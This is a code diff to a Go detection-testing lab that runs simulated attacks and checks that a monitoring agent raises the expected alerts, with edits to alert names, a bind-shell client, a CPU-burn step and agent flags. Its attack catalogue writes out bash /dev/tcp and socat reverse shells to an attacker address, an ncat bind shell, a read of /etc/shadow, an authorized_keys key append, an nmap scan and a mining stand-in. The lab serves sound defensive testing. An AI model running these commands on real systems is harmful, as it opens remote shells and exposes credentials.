@@ -104,19 +104,19 @@ func catalogue() []Behaviour {
 		{ID: "web-reverse-shell", Title: "detached reverse shell from the web application", Class: "execution", Falco: true,
 			Listen: "printf 'id\\nexit\\n' | timeout 15 ncat -l -p 4444", Needs: []string{"curl", "ncat"},
 			Attacker: web(fmt.Sprintf("setsid bash -c 'bash -i >& /dev/tcp/%s/4444 0>&1' >/dev/null 2>&1 &", atkIP)),
-			Expect:   []string{"shell-on-socket", "web-server-spawns-shell", "interactive-shell-outbound"}},
+			Expect:   []string{"shell-on-socket", "web-server-spawns-shell", "reverse-shell"}},
 		{ID: "user-reverse-shell", Title: "reverse shell of an ordinary user", Class: "execution", Falco: true,
 			Listen: "printf 'id\\nexit\\n' | timeout 15 ncat -l -p 4445", Needs: []string{"ncat", "setpriv"},
 			Service: fmt.Sprintf("timeout 10 setpriv --reuid=65534 --regid=65534 --clear-groups bash -c 'bash -i >& /dev/tcp/%s/4445 0>&1' </dev/null >/dev/null 2>&1 || true", atkIP),
-			Expect:  []string{"shell-on-socket", "interactive-shell-outbound"}},
+			Expect:  []string{"shell-on-socket", "reverse-shell"}},
 		{ID: "ncat-bind-shell", Title: "ncat -e /bin/sh bind shell", Class: "execution",
 			Service:  "(timeout 15 ncat -l -p 5555 -e /bin/sh >/dev/null 2>&1 &) ; sleep 0.5",
-			Attacker: fmt.Sprintf("printf 'id\\nexit\\n' | timeout 5 ncat %s 5555 >/dev/null || true", svcIP), Needs: []string{"ncat"},
-			Expect: []string{"shell-from-netcat", "shell-on-socket", "interactive-shell-inbound"}},
+			Attacker: fmt.Sprintf("(printf 'id\\n'; sleep 1; printf 'exit\\n') | timeout 5 ncat %s 5555 >/dev/null || true", svcIP), Needs: []string{"ncat"},
+			Expect: []string{"shell-from-netcat", "shell-on-socket", "bind-shell"}},
 		{ID: "socat-reverse-shell", Title: "socat reverse shell", Class: "execution",
 			Listen: "printf 'id\\nexit\\n' | timeout 15 ncat -l -p 4446", Needs: []string{"socat", "ncat"},
 			Service: fmt.Sprintf("timeout 10 socat TCP:%s:4446 EXEC:/bin/sh >/dev/null 2>&1 || true", atkIP),
-			Expect:  []string{"shell-from-netcat", "shell-on-socket", "interactive-shell-outbound"}},
+			Expect:  []string{"shell-from-netcat", "shell-on-socket", "reverse-shell"}},
 		{ID: "read-shadow", Title: "shadow file read by an unexpected program", Class: "credential-access", Falco: true,
 			Service: "cat /etc/shadow >/dev/null", Expect: []string{"credential-file-read"}},
 		{ID: "authorized-keys", Title: "key appended to authorized_keys", Class: "persistence",
@@ -154,7 +154,7 @@ func catalogue() []Behaviour {
 		{ID: "discovery-on-server", Title: "network scanner run on a server", Class: "discovery", Needs: []string{"nmap"},
 			Service: fmt.Sprintf("nmap -sT -n -Pn -p 1-20 %s >/dev/null 2>&1 || true", atkIP), Expect: []string{"discovery-tool-on-server"}},
 		{ID: "cpu-burn", Title: "a process holds a core", Class: "impact",
-			Service: "timeout 20 sh -c 'while :; do :; done' || true", Expect: []string{"sustained-cpu-burn"}},
+			Service: "timeout 20 sh -c 'while :; do :; done' >/dev/null 2>&1 &", Expect: []string{"sustained-cpu-burn"}},
 		{ID: "stratum", Title: "miner stand-in speaks stratum", Class: "impact", Needs: []string{"ncat"},
 			Listen:  `printf '{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a302a8a9dd95cf71f"]],"08000002",4],"error":null}\n' | timeout 15 ncat -l -p 3333`,
 			Service: fmt.Sprintf(`printf '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n' | timeout 5 ncat %s 3333 >/dev/null || true`, atkIP),
@@ -299,7 +299,7 @@ func (l *attacksLab) build(ctx context.Context) error {
 	}
 	identity := filepath.Join(data, "bus", "sensor.json")
 	if _, err := l.start("svc", "netsensor", l.o.Vigil, "netsensor", "--iface", sv, "--bus", "nats://127.0.0.1:4222",
-		"--bus-identity", identity, "--id", "svc-link", "--spool-dir", filepath.Join(l.o.Dir, "netsensor-spool"), "--log-level", "warn"); err != nil {
+		"--bus-identity", identity, "--id", "svc-link", "--services", svcIP + ":80/tcp", "--spool-dir", filepath.Join(l.o.Dir, "netsensor-spool"), "--log-level", "warn"); err != nil {
 		return err
 	}
 	host := filepath.Join(l.o.Dir, "svc")
@@ -350,7 +350,7 @@ exec %[2]s agent --bus nats://127.0.0.1:4222 --bus-identity %[3]s --host-id svc 
 var labMounts = []string{"/root", "/dev/shm", "/var/log", "/etc/cron.d", "/var/spool/cron", "/etc/systemd/system", "/etc/sudoers.d"}
 
 // agentLabFlags turn on what the attacks need of the agent.
-const agentLabFlags = ""
+const agentLabFlags = "--cpu-level 90 --cpu-level-for 5s"
 
 // firstChild waits for the first child of pid (unshare --fork's child,
 // the PID namespace's first process).
